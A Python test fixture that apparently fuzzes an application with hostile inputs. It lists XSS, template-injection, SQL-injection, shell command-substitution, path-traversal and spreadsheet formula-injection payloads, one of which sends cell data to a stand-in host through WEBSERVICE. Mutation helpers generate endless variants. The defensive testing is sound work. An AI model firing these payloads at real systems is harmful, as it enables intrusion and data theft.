"""Strings that would do harm if anything took them for more than words, and new ones made of them."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

MARK = "pwned"
"""What a string leaves behind when it runs: a variable of the page, an address asked for, a file read."""

BASE = (
    "<script>globalThis.pwned=1</script>",
    '<img src="/pwned.png" onerror="globalThis.pwned=1">',
    "<svg onload=globalThis.pwned=1>",
    "<svg><script href='/pwned.js'/></svg>",
    "</textarea><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</title><style>@import '/pwned.css'</style>",
    '"><iframe srcdoc="<script>parent.pwned=1</script>">',
    "' autofocus onfocus='globalThis.pwned=1",
    "javascript:globalThis.pwned=1",
    "[press](javascript:pwned=1)",
    "<a href='https://pwned.invalid/'>x</a>",
    "<meta http-equiv=refresh content='0;url=/pwned'>",
    "<base href='https://pwned.invalid/'>",
    "<form action=/pwned><input name=x autofocus><button>",
    "<details open ontoggle=globalThis.pwned=1>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "{{7*7}}{{constructor.constructor('pwned=1')()}}",
    "${globalThis.pwned=1}",
    "#{7*7}<%= 7*7 %>",
    "{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}",
    "{0.__class__.__init__.__globals__}",
    "{case}{day}{number}{limit}",
    "%(case)s %s %n %x %d",
    "$(touch /tmp/pwned) `touch /tmp/pwned`",
    "'; DROP TABLE journal; --",
    '" OR 1=1; ATTACH DATABASE "/tmp/pwned" AS x; --',
    "__import__('os').system('touch /tmp/pwned')",
    "!!python/object/apply:os.system ['touch /tmp/pwned']",
    "../../../../etc/passwd",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("https://pwned.invalid/","x")',
    '=WEBSERVICE("https://pwned.invalid/?"&A1)',
    "=cmd|'/c calc'!A1",
    "＝1+1",
    '#read("/etc/passwd")',
    '#import "@preview/pwned:0.1.0": *',
    '#sys.inputs #eval("1+1") #panic()',
    '#link("https://pwned.invalid/")[x]',
    "$ sum_(k=0)^n k $ *bold* _thin_ `raw` <label> @ref // gone",
    "= Heading\n- list\n+ list\n/ term: x",
    "/* #{ \\ } [ ] ~ -- ... */",
    "__proto__",
    '{"__proto__": {"pwned": 1}}',
    '"}],"ratings":[],"x":"',
    "\u202egnp.x\u202c\u2067x\u2069",
    "\ufeff\u200b\u00ad\u2028\u2029",
)


def _inside(text: str, chance: random.Random) -> str:
    other, at = chance.choice(BASE), chance.randrange(len(text) + 1)
    return text[:at] + other + text[at:]


MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    lambda text, chance: text,
    lambda text, chance: chance.choice(("=", "+", "-", "@", "\t", "\n", " ", "'", '"', "＝", "#", "\\")) + text,
    lambda text, chance: text.swapcase(),
    lambda text, chance: "".join(chance.choice((c.upper(), c.lower())) for c in text),
    lambda text, chance: text + chance.choice(BASE),
    _inside,
    lambda text, chance: text[chance.randrange(len(text)) :],
    lambda text, chance: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text, chance: text.replace("<", "\uff1c").replace("=", "\uff1d"),
    lambda text, chance: chance.choice(("'", '"', "`", "-->", "]]>", "}}", "*/", "</p>", ")")) + text,
    lambda text, chance: text.replace(" ", chance.choice(("\n", "\t", "\u00a0", "/", "  "))),
    lambda text, chance: text * chance.randint(2, 8),
)


def hostile(chance: random.Random) -> Iterator[str]:
    """Yield strings without end, each from the list above after up to three changes."""
    while True:
        text = chance.choice(BASE)
        for _ in range(chance.randrange(4)):
            text = chance.choice(MUTATIONS)(text, chance)
        # Blank words are refused where a name is asked for, which other tests see to.
        if text.strip():
            yield text
